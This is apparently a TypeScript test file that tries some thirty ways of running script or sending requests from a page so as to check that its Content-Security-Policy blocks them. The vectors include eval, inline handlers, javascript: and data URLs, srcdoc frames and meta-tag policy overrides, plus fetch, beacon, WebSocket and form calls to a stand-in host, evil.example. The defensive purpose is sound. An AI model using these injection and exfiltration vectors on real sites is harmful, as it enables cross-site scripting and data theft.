/* `custom/index.ts` of a test design: tries, as a script of the page itself, what its content policy forbids. */

const mark = "ran";
const code = `window.${mark} = 1`;
const elsewhere = "https://evil.example";

function put(html: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = html;
  document.body.append(box);
  return box;
}

function script(set: (node: HTMLScriptElement) => void): void {
  const node = document.createElement("script");
  set(node);
  document.head.append(node);
}

/**
 * Wait until the browser has run what an attempt started: a picture, a script, a frame and a timer come after it.
 *
 * What runs even later is attributed to the next attempt.
 */
async function settled(): Promise<void> {
  const picture = Object.assign(new Image(), { src: "data:," });
  const empty = Object.assign(document.createElement("script"), { src: "data:text/javascript," });
  const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<p>a</p>" });
  const over = [picture, empty, frame].map(
    (node) =>
      new Promise((done) => {
        node.addEventListener("load", done);
        node.addEventListener("error", done);
      }),
  );
  document.body.append(picture, empty, frame);
  await Promise.all(over);
  await new Promise((done) => setTimeout(done));
  for (const node of [picture, empty, frame]) node.remove();
}

const asFile = (text: string) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

const attempts: Readonly<Record<string, () => unknown>> = {
  eval: () => Reflect.get(globalThis, "eval")(code),
  Function: () => Reflect.construct(Function, [code])(),
  "a timer with a string": () => Reflect.get(globalThis, "setTimeout")(code, 0),
  "an inline handler": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", code);
    document.body.append(button);
    button.click();
  },
  "a handler in markup": () => put(`<img src="data:," onerror="${code}">`),
  "an inline script": () =>
    script((node) => {
      node.textContent = code;
    }),
  "a script of another site": () =>
    script((node) => {
      node.src = `${elsewhere}/a.js`;
    }),
  "a script in a data address": () =>
    script((node) => {
      node.src = `data:text/javascript,${code}`;
    }),
  "a script in an object URL": () =>
    script((node) => {
      node.src = asFile(code);
    }),
  "a module in an object URL": () => import(/* @vite-ignore */ asFile(code)),
  "a script that is written into a frame": () =>
    put("<iframe></iframe>").querySelector("iframe")?.contentDocument?.write(`<script>parent.${mark} = 1</script>`),
  "a script in a drawing": () => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "script");
    svg.textContent = code;
    document.body.append(svg);
  },
  "a link that runs code": () => put(`<a href="javascript:${code}">a</a>`).querySelector("a")?.click(),
  "a window that runs code": () => window.open(`javascript:${code}`, "_self"),
  "a frame that runs code": () => put(`<iframe src="javascript:parent.${mark} = 1"></iframe>`),
  "a frame with a script": () => put(`<iframe srcdoc="<script>parent.${mark} = 1</script>"></iframe>`),
  "an object": () => put(`<object data="data:text/html,<script>parent.${mark} = 1</script>"></object>`),
  "another base": () => {
    const base = document.createElement("base");
    base.href = elsewhere;
    document.head.prepend(base);
    if (document.baseURI.startsWith(elsewhere)) throw new Error("the base is another");
  },
  "a policy that allows more": () => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = "script-src * 'unsafe-inline' 'unsafe-eval'";
    document.head.append(meta);
    put(`<img src="data:," onerror="${code}">`);
    Reflect.get(globalThis, "eval")(code);
  },
  "a refresh that runs code": () => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=javascript:${code}`;
    document.head.append(meta);
  },
  "a style sheet": () => {
    put("<style>body { --policy: open }</style>");
    if (getComputedStyle(document.body).getPropertyValue("--policy") !== "") throw new Error("the style sheet is used");
  },
  "a style in markup": () => {
    const node = put(`<p style="--policy: open">a</p>`).querySelector("p");
    if (node && getComputedStyle(node).getPropertyValue("--policy") !== "") throw new Error("the style is used");
  },
  "a form that goes elsewhere": () => {
    const form = put(`<form method="post" action="${elsewhere}/form"><input name="a" value="b"></form>`);
    form.querySelector("form")?.submit();
  },
  "a request elsewhere": () => fetch(`${elsewhere}/fetch`),
  "a beacon elsewhere": () => navigator.sendBeacon(`${elsewhere}/beacon`, "a"),
  "a socket elsewhere": () => new WebSocket("wss://evil.example/socket"),
  "a picture elsewhere": () => put(`<img src="${elsewhere}/picture?data">`),
  "a frame elsewhere": () => put(`<iframe src="${elsewhere}/frame?data"></iframe>`),
  "a video elsewhere": () => put(`<video src="${elsewhere}/video?data" poster="${elsewhere}/poster?data"></video>`),
  "a sound elsewhere": () => new Audio(`${elsewhere}/sound?data`).load(),
  "a frame without encryption": () => put(`<iframe src="http://evil.example/frame"></iframe>`),
};

/** The result of each attempt; undefined if it was stopped. */
export async function tryAll(): Promise<string> {
  const results: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    // Most attempts throw; the others have no effect.
    const problem = await Promise.resolve()
      .then(attempt)
      .then(settled)
      .then(
        () => "",
        (error: unknown) => (error instanceof Error ? error.message : String(error)),
      );
    const happened = Reflect.get(window, mark) === undefined ? "" : "ran";
    results[name] = happened || (/^the (?:base|style)/.test(problem) ? problem : "");
    Reflect.deleteProperty(window, mark);
  }
  return JSON.stringify(results);
}
